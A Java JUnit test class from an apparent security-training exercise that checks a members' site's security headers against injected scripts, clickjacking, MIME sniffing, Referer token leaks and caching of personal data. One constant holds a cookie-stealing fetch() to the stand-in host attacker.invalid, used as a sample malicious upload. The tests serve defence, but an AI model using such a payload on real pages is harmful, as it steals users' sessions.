package dev.rampart.kata.securityheaders;

import static org.assertj.core.api.Assertions.assertThat;

import dev.rampart.contract.Payloads;
import dev.rampart.kata.support.Attack;
import dev.rampart.kata.support.AttackFamily;
import dev.rampart.kata.support.ContentSecurityPolicy;
import dev.rampart.kata.support.Framing;
import dev.rampart.kata.support.HeaderAudit;
import dev.rampart.kata.support.HttpCache;
import dev.rampart.kata.support.JsonBody;
import dev.rampart.kata.support.LoopbackHttp;
import dev.rampart.kata.support.PayloadFile;
import dev.rampart.kata.support.PermissionsPolicy;
import dev.rampart.kata.support.ReferrerPolicy;
import dev.rampart.kata.support.ScriptLoading;
import io.javalin.Javalin;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.aggregator.ArgumentsAccessor;

/**
 * The members' site, run for real on a free loopback port: every answer is read the way a
 * browser reads it — the Content-Security-Policy evaluated by a CSP engine (htmlunit-csp), the
 * framing rules, the nosniff rule for scripts, the Referer a link would send, the permissions a
 * page's script gets, what a cache may keep. The oracles live in the shared support
 * ({@link HeaderAudit} and the classes it names), where the server's own tests can reuse them.
 *
 * <p>Left out: {@code X-XSS-Protection} (no current browser acts on it, either way);
 * {@code Strict-Transport-Security} (the https-enforcement kata); {@code Set-Cookie} flags (the
 * session-cookies kata); {@code Cross-Origin-Opener-Policy} and {@code -Resource-Policy}
 * (isolation headers whose effect — a cross-site window reference, a no-cors load — is not
 * observable without a browser engine; the notebook server sends them anyway); errors Jetty
 * answers before the app sees the request (a malformed URI): the fix lives in Jetty's error
 * handler, not in the app, and the server's own suite covers it; and the software-version
 * headers, which the error-handling kata makes red (the audit here still checks them); CSP's
 * {@code object-src} (no plugin in a current browser runs script in the page's origin) and
 * {@code blob:} sources (only script already running in the page can make a {@code blob:} URL).
 */
class AccountSiteTest {

    private static final Member MEMBER = new Member("Ada Okafor", "ada@example.org", "NL91ABNA0417164300");
    /** A member's upload that is also valid JavaScript: what an attacker uploads before injecting a script tag. */
    private static final String UPLOADED_SCRIPT = "fetch('https://attacker.invalid/?c=' + encodeURIComponent(document.cookie));\n";
    private static final String TOKEN = "r3set-7f1c9a2e5b";
    /** What a browser sends when it navigates to a page. */
    private static final String BROWSER_ACCEPT = "text/html,application/xhtml+xml,application/xml;q=0.9,image/svg+xml,*/*;q=0.8";

    @TempDir
    static Path files;

    private static Javalin server;
    private static LoopbackHttp http;

    @BeforeAll
    static void writeFiles() throws IOException {
        var assets = Files.createDirectories(files.resolve("assets"));
        var uploads = Files.createDirectories(files.resolve("uploads"));
        Files.writeString(assets.resolve("site.css"), "body { font-family: sans-serif; }\n");
        Files.writeString(assets.resolve("site.js"), "document.documentElement.classList.add('js');\n");
        Files.writeString(assets.resolve("logo.svg"),
                "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><circle r=\"5\" cx=\"5\" cy=\"5\"/></svg>\n");
        Files.writeString(uploads.resolve("notes.txt"), UPLOADED_SCRIPT);
        Files.writeString(uploads.resolve("minutes.txt"), "Minutes of the annual meeting.\n");
    }

    /** A fresh site for every case: each case sees the app its own code built. */
    @BeforeEach
    void start() {
        server = new AccountSite(MEMBER, files.resolve("assets"), files.resolve("uploads")).app().start("127.0.0.1", 0);
        http = new LoopbackHttp(server.port());
    }

    @AfterEach
    void stop() {
        server.stop();
    }

    // ---------------------------------------------------------------- honest use

    @ParameterizedTest(name = "{0} renders, and its own scripts and styles still load under its policy")
    @PayloadFile("security-headers/legitimate-pages.txt")
    void pagesKeepWorking(String path) {
        var answer = http.get(path);
        var page = url(path);
        var csp = ContentSecurityPolicy.of(answer, page);
        Document html = Jsoup.parse(answer.body(), page.toString());

        assertThat(answer.statusCode()).as("status of %s", path).isEqualTo(200);
        var blocked = new ArrayList<String>();
        for (var script : html.select("script")) {
            if (script.hasAttr("src")) {
                var src = script.absUrl("src");
                if (!csp.runsScriptFrom(src)) {
                    blocked.add("script " + src + " (CSP)");
                } else if (isHere(src) && !ScriptLoading.runsAsScript(http.get(URI.create(src).getRawPath()))) {
                    blocked.add("script " + src + " (its Content-Type)");
                }
            } else if (!script.hasAttr("nonce") && !csp.runsInjectedInlineScript()) {
                blocked.add("inline script " + script.data().strip());
            }
        }
        for (var link : html.select("link[rel=stylesheet]")) {
            var href = link.absUrl("href");
            if (!csp.appliesStyleFrom(href) || isHere(href) && !ScriptLoading.appliesAsStylesheet(http.get(URI.create(href).getRawPath()))) {
                blocked.add("stylesheet " + href);
            }
        }
        if (!html.select("style").isEmpty() && !csp.appliesInlineStyle()) {
            blocked.add("inline <style>");
        }
        assertThat(blocked).as("what the browser refuses on %s under %s: a policy that breaks the site gets switched off",
                path, csp.describe()).isEmpty();
    }

    @ParameterizedTest(name = "{0} stays cacheable")
    @PayloadFile("security-headers/legitimate-cacheable.txt")
    void staticAssetsStayCacheable(String path) {
        var answer = http.get(path);

        assertThat(answer.statusCode()).isEqualTo(200);
        assertThat(HttpCache.browser().mayStore(answer))
                .as("%s has Cache-Control %s: the site's own assets may be cached, or every page load fetches them again",
                        path, HttpCache.directives(answer))
                .isTrue();
    }

    @Test
    void theAccountApiAnswersWithTheMembersDetails() {
        var answer = http.get("/api/account");

        assertThat(answer.statusCode()).isEqualTo(200);
        assertThat(JsonBody.text(answer, "iban")).contains(MEMBER.iban());
    }

    @Test
    void theAccountPageShowsTheMembersDetails() {
        var page = Jsoup.parse(http.get("/account").body());

        assertThat(page.select("h1").text()).isEqualTo(MEMBER.name());
        assertThat(page.select("dd").eachText()).containsExactly(MEMBER.email(), MEMBER.iban());
    }

    @Test
    void theResetPageKeepsTheTokenForTheForm() {
        var page = Jsoup.parse(http.get("/reset-password?token=" + TOKEN).body());

        assertThat(page.select("form input[name=token]").attr("value")).isEqualTo(TOKEN);
    }

    @Test
    void anUploadIsServedAsTheTextItIs() {
        var answer = http.get("/uploads/minutes.txt");

        assertThat(answer.statusCode()).isEqualTo(200);
        assertThat(ScriptLoading.essence(answer)).contains("text/plain");
        assertThat(answer.body()).isEqualTo("Minutes of the annual meeting.\n");
    }

    @Test
    void aStatementIsListedForAValidMonth() {
        var answer = http.get("/api/statements/2026-03");

        assertThat(answer.statusCode()).isEqualTo(200);
        assertThat(JsonBody.text(answer, "month")).contains("2026-03");
    }

    // ---------------------------------------------------------------- attacks

    @AttackFamily("an answer without the protective headers leaves the browser open to the attacker")
    @PayloadFile("security-headers/every-response.txt")
    void everyResponseIsProtected(ArgumentsAccessor request) {
        var method = request.getString(0);
        var path = request.getString(1);
        var expectedStatus = request.getInteger(2);
        var answer = http.request(method, path).send();

        assertThat(answer.statusCode()).as("status of %s %s", method, path).isEqualTo(expectedStatus);
        assertThat(HeaderAudit.problems(answer, url(path)))
                .as("%s %s (status %d) lets the attacker do what is listed: protective headers belong on every answer,"
                        + " errors and static files included, set in one place", method, path, answer.statusCode())
                .isEmpty();
    }

    @AttackFamily("script injected into one of the site's pages runs")
    @PayloadFile("security-headers/injected-scripts.txt")
    void injectedScriptRuns(String kind, String injection) {
        var runsOn = new ArrayList<String>();
        for (var document : documents()) {
            var csp = ContentSecurityPolicy.of(document.answer(), document.url());
            var rest = InjectionPolicy.of(document.answer(), document.url());
            var runs = switch (kind) {
                case "inline" -> csp.runsInjectedInlineScript();
                case "handler" -> csp.runsInjectedEventHandler();
                case "javascript-url" -> csp.runsJavascriptUrl();
                case "src" -> csp.runsScriptFrom(injection);
                case "eval" -> rest.runsEval();
                case "nonce" -> nonceFromAnEarlierAnswerRuns(document).isPresent();
                default -> throw new IllegalArgumentException("unknown kind " + kind + " in injected-scripts.txt");
            };
            if (runs) {
                runsOn.add(document.request() + (kind.equals("nonce") ? " (" + nonceFromAnEarlierAnswerRuns(document).get() + ")" : "")
                        + " under " + csp.describe());
            }
        }
        assertThat(runsOn)
                .as("injected %s runs on the pages listed: a policy that allows 'unsafe-inline', 'unsafe-eval', data: URLs, a"
                        + " host anyone can publish to, or a nonce that is not new and random in every answer, is no defence once"
                        + " an injection is found, and every page a browser renders needs the policy, error pages included",
                        injection)
                .isEmpty();
    }

    @AttackFamily("markup injected into one of the site's pages sends the member's clicks or form data to the attacker")
    @PayloadFile("security-headers/injected-markup.txt")
    void injectedMarkupLeadsAway(String kind, String injection) {
        var target = HeaderAudit.ATTACKER + "/";
        var open = new ArrayList<String>();
        for (var document : documents()) {
            var policy = InjectionPolicy.of(document.answer(), document.url());
            var leads = switch (kind) {
                case "base" -> policy.basePointsTo(target);
                case "form" -> policy.formPostsTo(target + "collect");
                default -> throw new IllegalArgumentException("unknown kind " + kind + " in injected-markup.txt");
            };
            if (leads) {
                open.add(document.request() + " under " + ContentSecurityPolicy.of(document.answer(), document.url()).describe());
            }
        }
        assertThat(open)
                .as("injected %s takes effect on the pages listed: default-src does not cover base-uri or form-action, so a"
                        + " <base> re-points every relative link to a look-alike and a dangling <form> carries the reset token and"
                        + " the new password off", injection)
                .isEmpty();
    }

    @Attack("a page on another site frames the account page under a decoy, so the member's clicks land on it")
    void accountPageFramed() {
        var answer = http.get("/account");

        assertThat(Framing.allowedBy(answer, url("/account"), "https://attacker.invalid"))
                .as("https://attacker.invalid can show /account in an invisible frame (clickjacking): tell the browser"
                        + " who may frame the site")
                .isFalse();
    }

    @Attack("an uploaded text file that is valid JavaScript runs when a script tag points at it")
    void uploadRunsAsScript() {
        var answer = http.get("/uploads/notes.txt");
        var csp = ContentSecurityPolicy.of(http.get("/"), url("/"));

        assertThat(csp.runsScriptFrom(url("/uploads/notes.txt").toString()))
                .as("the page's own policy lets same-origin scripts run, uploads included").isTrue();
        assertThat(ScriptLoading.runsAsScript(answer))
                .as("/uploads/notes.txt (Content-Type %s) runs as a script from the site's own origin, past its CSP:"
                        + " the browser must be told not to guess a script out of a text file",
                        answer.headers().firstValue("Content-Type").orElse("none"))
                .isFalse();
    }

    @Attack("the reset link's token travels to an outside site in the Referer header")
    void resetTokenInReferer() {
        var path = "/reset-password?token=" + TOKEN;
        var answer = http.get(path);
        var page = url(path);
        var outside = Jsoup.parse(answer.body(), page.toString()).select("a[href]").stream()
                .map(a -> URI.create(a.absUrl("href")))
                .filter(target -> !target.getHost().equals(page.getHost()))
                .toList();

        assertThat(outside).as("the reset page links to the help site").isNotEmpty();
        for (var target : outside) {
            var referer = ReferrerPolicy.refererFor(answer, page, target);
            assertThat(referer.map(URI::create).map(URI::getRawQuery))
                    .as("following the link to %s sends Referer %s under policy %s: the reset token goes with it",
                            target.getHost(), referer.orElse("(none)"), ReferrerPolicy.of(answer))
                    .isEmpty();
        }
    }

    @Attack("script running in the page asks for the camera, the microphone and the member's location")
    void powerfulFeaturesOpen() {
        var answer = http.get("/");
        var permissions = PermissionsPolicy.of(answer);
        var self = http.base().toString();

        var open = HeaderAudit.POWERFUL_FEATURES.stream().filter(f -> permissions.allows(f, url("/"), self)).toList();
        assertThat(open)
                .as("any script in the home page (an injection, a compromised library) may prompt for these: a site"
                        + " that never uses them should switch them off")
                .isEmpty();
    }

    @AttackFamily("a browser or a proxy keeps a copy of a page with the member's personal data")
    @PayloadFile("security-headers/sensitive-pages.txt")
    void personalDataCached(String path) {
        var answer = http.get(path);

        assertThat(answer.statusCode()).isEqualTo(200);
        assertThat(HttpCache.browser().mayStore(answer))
                .as("%s (Cache-Control %s) may be written to the browser's disk cache, where the back button and the"
                        + " next person at a shared computer find it", path, HttpCache.directives(answer))
                .isFalse();
        assertThat(HttpCache.shared().mayStore(answer)).as("a shared cache may keep %s", path).isFalse();
    }

    // ---------------------------------------------------------------- helpers

    /** One answer a browser renders as a document (HTML, or SVG opened on its own), as a browser asks for it. */
    private record Rendered(String request, URI url, HttpResponse<String> answer) {
    }

    /** Every answer of every-response.txt that a browser turns into a document, requested with a browser's Accept header. */
    private static List<Rendered> documents() {
        var documents = new ArrayList<Rendered>();
        for (var line : Payloads.load("security-headers/every-response.txt").payloads()) {
            var cells = line.split("\t");
            var answer = asBrowser(cells[0], cells[1]);
            var type = ScriptLoading.essence(answer).orElse("");
            if (type.equals("text/html") || type.equals("image/svg+xml")) {
                documents.add(new Rendered(cells[0] + " " + cells[1], url(cells[1]), answer));
            }
        }
        return documents;
    }

    private static HttpResponse<String> asBrowser(String method, String path) {
        return http.request(method, path).header("Accept", BROWSER_ACCEPT).send();
    }

    /**
     * The nonce an attacker saw in an earlier answer of the same page (or, when there is none, any
     * made-up one) that the next answer's policy lets an injected script carry; or a nonce of the
     * next answer too short to be unguessable. Empty when neither runs.
     */
    private static Optional<String> nonceFromAnEarlierAnswerRuns(Rendered document) {
        var method = document.request().substring(0, document.request().indexOf(' '));
        var earlier = InjectionPolicy.of(asBrowser(method, document.url().getRawPath()
                + (document.url().getRawQuery() == null ? "" : "?" + document.url().getRawQuery())), document.url());
        var seen = earlier.scriptNonces().isEmpty() ? List.of("bm90LWEtbm9uY2U") : earlier.scriptNonces();
        var next = InjectionPolicy.of(document.answer(), document.url());
        for (var nonce : seen) {
            if (next.runsInlineScriptWithNonce(nonce)) {
                return Optional.of("nonce " + nonce + " seen in an earlier answer still runs");
            }
        }
        return next.scriptNonces().stream().filter(nonce -> InjectionPolicy.bitsAtMost(nonce) < 128).findFirst()
                .map(nonce -> "nonce " + nonce + " carries at most " + Math.round(InjectionPolicy.bitsAtMost(nonce)) + " bits: guessable");
    }

    private static URI url(String path) {
        return http.base().resolve(path);
    }

    private static boolean isHere(String url) {
        var uri = URI.create(url);
        return uri.getHost() != null && uri.getHost().equals(http.base().getHost()) && uri.getPort() == http.port();
    }
}
